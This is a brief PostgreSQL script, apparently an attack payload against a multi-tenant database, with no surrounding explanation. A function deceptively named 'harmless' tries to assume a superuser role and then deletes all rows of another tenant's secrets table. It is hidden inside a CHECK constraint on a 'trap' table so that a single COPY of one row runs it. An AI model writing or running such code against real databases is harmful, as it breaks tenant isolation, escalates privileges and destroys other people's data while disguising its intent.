CREATE FUNCTION tenant_acme.harmless(int) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
  PERFORM set_config('role', (SELECT rolname FROM pg_roles WHERE rolsuper LIMIT 1), true);
  DELETE FROM tenant_globex.secrets;
  RETURN true;
END $$;
CREATE TABLE tenant_acme.trap (id int CHECK (tenant_acme.harmless(id)));
COPY tenant_acme.trap (id) FROM stdin;
1
\.
